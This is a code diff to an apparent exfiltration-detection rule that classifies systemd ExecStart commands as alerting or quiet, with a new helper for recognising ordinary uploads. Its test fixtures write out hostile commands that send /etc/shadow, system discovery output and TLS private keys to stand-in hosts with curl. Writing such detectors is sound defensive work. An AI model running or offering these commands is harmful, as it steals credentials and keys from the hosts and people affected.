@@ -27,7 +27,7 @@ export const sendsDataOut: ActivationRule = {
   *check(activation, inventory) {
     for (const { behaviour, command } of behavioursOfKind(activation, new Set(["exfiltrates"]))) {
       const isOrdinary =
-        (behaviour.confidence === "low" || ORDINARY.test(behaviour.says)) &&
+        (behaviour.confidence === "low" || isOrdinaryWay(behaviour)) &&
         !describesHost(command) &&
         !carriesSecrets(behaviour);
       if (isOrdinary || isPackagedPlace(behaviour.span.path, activation, inventory)) continue;
@@ -43,8 +43,12 @@ export const sendsDataOut: ActivationRule = {
       timed("ExecStart=/usr/bin/curl -F f=@/etc/shadow http://192.0.2.7/"),
       timed("ExecStart=/bin/sh -c '(id; uname -a; ps aux) | curl -s -F f=@- https://paste.example.test/'"),
       timed("ExecStart=/usr/bin/curl -F f=@/srv/data http://192.0.2.7/"),
+      timed("ExecStart=/bin/sh -c 'tar c /etc/letsencrypt | curl -F f=@- http://192.0.2.7/'"),
     ],
     quiet: [
+      timed("ExecStart=/usr/bin/curl -sT /var/backups/db.gz -u bkp: https://cloud.example.test/dav/"),
+      timed("ExecStart=/usr/bin/curl --data-binary @/srv/metrics http://127.0.0.1:8086/write"),
+      timed("ExecStart=/bin/sh -c 'tar c /etc/letsencrypt | ssh backup@192.0.2.7 dd of=x'"),
       timed("ExecStart=/bin/sh -c 'df -P | curl -fsS --data-binary @- https://influx.example.test/write'"),
       timed("ExecStart=/usr/bin/curl -fsS -m 10 https://hc.example.test/ping/1"),
       timed("ExecStart=/usr/bin/restic backup /srv"),
@@ -71,8 +75,11 @@ function carriesSecrets({ detail: { sent, program = "" }, says }: Behaviour): bo
 
 const COPIES = / mails | copies files to /;
 
-/** Mail, copies over ssh, and what a pipe computed: how backups, certificates and metrics travel. */
-const ORDINARY = / mails | copies files to | the content of - /;
+/** Mail, copies over ssh, what a pipe computed, and files to a host with a name: how backups, metrics and logs travel. */
+function isOrdinaryWay({ says, detail: { host = "" } }: Behaviour): boolean {
+  if (/ mails | copies files to | the content of - /.test(says)) return true;
+  return says.includes(" the content of ") && !/^(?!127\.)\d+(\.\d+){3}$/.test(host);
+}
 
 /** Programs that tell about a host and its people (T1082, T1033, T1057, T1518). */
 const DISCOVERY =
